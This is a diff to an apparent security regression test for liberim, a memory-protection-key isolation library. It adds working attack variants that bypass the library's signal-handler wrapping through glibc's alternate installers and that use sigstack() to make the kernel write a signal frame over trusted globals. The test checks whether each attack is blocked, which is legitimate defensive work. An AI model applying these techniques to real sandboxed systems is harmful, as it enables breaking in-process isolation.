@@ -54,6 +54,23 @@
  *                             attacker's own (liberim wraps it with
  *                             SA_ONSTACK): blocked by the relay
  *   ... uid1000               any of the above after dropping to uid 1000
+ *
+ * Red team 51 (it worked against the liberim of its round, 6.1 and 6.12):
+ * glibc's other public names for the installers liberim interposes --
+ * ssignal, __sysv_signal, __sigaction and the compatibility symbol sigvec --
+ * installed the attacker's SIGTRAP handler unwrapped, without SA_ONSTACK,
+ * and the ownentry window wrote its frame into trusted globals:
+ *   rt_gatewin mpk ownentry install=ssignal|__sysv_signal|__sigaction|sigvec
+ *                             ATTACK (SIGTRAP's handler: the attacker's own,
+ *                             installed through that name); control:
+ *                             ownhandler (sigaction, wrapped)
+ * and glibc's sigstack() moved the kernel's signal stack -- the one every
+ * handler of liberim's is entered on -- to end inside trusted globals; a
+ * fault (a load from address 8, every register but %rsp the attacker's) then
+ * had its frame written there (6.12: with every key enabled):
+ *   rt_gatewin mpk sigstack [exec]       ATTACK
+ *   rt_gatewin none sigstack control     CONTROL of the mechanism: without
+ *                             keys the frame lands on the target
  * Exit 0 when blocked (with "control": when it worked), 1 otherwise, 2 when
  * the program could not set itself up.
  * Prints "ATTACK WORKED" with the bytes, or "BLOCKED". */
@@ -73,6 +90,7 @@
 
 #include "erim.h"
 #include "erim_check.h"
+#include "hd_sigvec.h"
 #include "gw_erim.h"
 #include "gw_trusted.h"
 
@@ -121,7 +139,8 @@ struct shared {
 	volatile uint64_t target, rsp, site, entry, trap_flags, trap_handler;
 };
 static struct shared *sh;
-static int use_exec, use_nowrpkru, use_direct, use_control, use_ownentry, use_own;
+static int use_exec, use_nowrpkru, use_direct, use_control, use_ownentry, use_own, use_sigstack;
+static const char *install_via;   /* install=NAME: SIGTRAP's handler through NAME */
 
 static int ospke;
 
@@ -225,6 +244,56 @@ static void on_usr1(int sig, siginfo_t *si, void *ucv)
 	g[REG_EFL] |= 0x100;
 }
 
+/* ownentry install=NAME: the attacker's SIGTRAP handler through one of
+ * glibc's other names (hd_sigvec.h) */
+
+static int install_trap(const char *via)
+{
+	void (*h)(int) = (void (*)(int))(void (*)(void))on_trap;
+	struct sigaction sa;
+	struct old_sigvec v = { h, 0, 0 };
+
+	memset(&sa, 0, sizeof sa);
+	sa.sa_sigaction = on_trap;
+	sa.sa_flags = SA_SIGINFO;
+	if (!strcmp(via, "ssignal"))
+		return ssignal(SIGTRAP, h) == SIG_ERR ? -1 : 0;
+	if (!strcmp(via, "__sysv_signal"))
+		return __sysv_signal(SIGTRAP, h) == SIG_ERR ? -1 : 0;
+	if (!strcmp(via, "__sigaction"))
+		return __sigaction(SIGTRAP, &sa, NULL);
+	if (!strcmp(via, "sigvec"))
+		return libc_sigvec(SIGTRAP, &v, NULL);
+	return -1;
+}
+
+/* sigstack: the program's SIGSEGV handler (SA_ONSTACK); under none it runs
+ * on the frame written over the target: it waits until the reader saw the
+ * change, then ends the attempt */
+static void on_segv(int sig)
+{
+	(void)sig;
+	for (int i = 0; i < 2000000 && !sh->seen; i++)
+		__asm__ volatile("pause");
+	_exit(3);
+}
+
+/* ss_fire(v): every general register but %rsp := v, then a load from
+ * address 8 */
+uint64_t ss_saved_rsp;
+void ss_fire(uint64_t v);
+__asm__(".text\n\t.globl ss_fire\n\t.type ss_fire,@function\nss_fire:\n\t"
+        "push %rbx\n\tpush %rbp\n\tpush %r12\n\tpush %r13\n\tpush %r14\n\tpush %r15\n\t"
+        "mov %rsp, ss_saved_rsp(%rip)\n\t"
+        "mov %rdi, %rax\n\tmov %rdi, %rbx\n\tmov %rdi, %rcx\n\tmov %rdi, %rdx\n\t"
+        "mov %rdi, %rsi\n\tmov %rdi, %rbp\n\tmov %rdi, %r8\n\tmov %rdi, %r9\n\t"
+        "mov %rdi, %r10\n\tmov %rdi, %r11\n\tmov %rdi, %r12\n\tmov %rdi, %r13\n\t"
+        "mov %rdi, %r14\n\tmov %rdi, %r15\n\t"
+        "movq 8, %r11\n\t"
+        "mov ss_saved_rsp(%rip), %rsp\n\t"
+        "pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n\t"
+        ".size ss_fire, .-ss_fire\n");
+
 static void *reader(void *arg)
 {
 	(void)arg;
@@ -295,6 +364,33 @@ static int child(void)
 	sh->site = rip;
 	if (!rip)
 		return 2;
+	if (use_sigstack) {
+		/* a signal stack ending at TOP: the XSAVE image at (TOP - xsize -
+		 * 4) & ~63, the 440-byte frame below it, r8..rcx at 48..168 bytes
+		 * from its start */
+		uint64_t top = (fp + xsize + 4 + 1) & ~1ull;
+		struct sigstack ss = { (void *)(uintptr_t)(top / 2), 0 };
+		struct sigaction sa;
+
+		sh->rsp = top;
+		memset(&sa, 0, sizeof sa);
+		sa.sa_handler = on_segv;
+		sa.sa_flags = SA_ONSTACK;
+		if (sigaction(SIGSEGV, &sa, NULL) != 0)
+			return 2;
+		/* THE DECISIVE STEP: glibc converts it to ss_sp = P, ss_size = P */
+#pragma GCC diagnostic push
+#pragma GCC diagnostic ignored "-Wdeprecated-declarations"
+		if (sigstack(&ss, NULL) != 0)
+			return 2;
+#pragma GCC diagnostic pop
+		sh->fired = 1;
+		ss_fire(value);
+		sh->survived = 1;
+		sh->stop = 1;
+		pthread_join(t, NULL);
+		return 0;
+	}
 	if (use_direct) {
 		sh->seen = *(volatile uint64_t *)&gw_t.balance;
 		sh->survived = 1;
@@ -319,7 +415,7 @@ static int child(void)
 		 * installs with SA_ONSTACK. */
 		sa.sa_sigaction = use_own ? on_trap : cur.sa_sigaction;
 		sa.sa_flags = SA_SIGINFO;
-		if (sigaction(SIGTRAP, &sa, NULL) != 0)
+		if (install_via ? install_trap(install_via) != 0 : sigaction(SIGTRAP, &sa, NULL) != 0)
 			return 2;
 		{
 			struct sigaction k;
@@ -382,7 +478,7 @@ int main(int argc, char **argv)
 
 	if (argc < 2) {
 		fprintf(stderr, "usage: %s mpk|none [exec] [nowrpkru] [direct] [control] [ownentry] "
-		        "[ownhandler] [uid1000]\n", argv[0]);
+		        "[ownhandler] [install=NAME] [sigstack] [uid1000]\n", argv[0]);
 		return 2;
 	}
 	setenv("ERIM_BACKEND", argv[1], 1);
@@ -399,6 +495,10 @@ int main(int argc, char **argv)
 			use_ownentry = 1;
 		else if (!strcmp(argv[i], "ownhandler"))
 			use_ownentry = use_own = 1;
+		else if (!strncmp(argv[i], "install=", 8))
+			use_ownentry = 1, install_via = argv[i] + 8;
+		else if (!strcmp(argv[i], "sigstack"))
+			use_sigstack = 1;
 		else if (!strcmp(argv[i], "uid1000")) {
 			/* drop to an ordinary user first: nothing here needs root */
 			if (setgroups(0, NULL) != 0 || setresgid(1000, 1000, 1000) != 0 ||
@@ -414,6 +514,11 @@ int main(int argc, char **argv)
 	       use_ownentry ? ", armed by a ucontext edit, SIGTRAP to liberim's own entry" : "");
 	if (use_own)
 		printf("rt_gatewin: CONTROL: the attacker's own SIGTRAP handler (liberim wraps it)\n");
+	if (install_via)
+		printf("rt_gatewin: SIGTRAP's handler: the attacker's own, installed with %s()\n",
+		       install_via);
+	if (use_sigstack)
+		printf("rt_gatewin: the signal stack moved with sigstack(), then a load from address 8\n");
 	sh = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
 	if (sh == MAP_FAILED)
 		return 2;
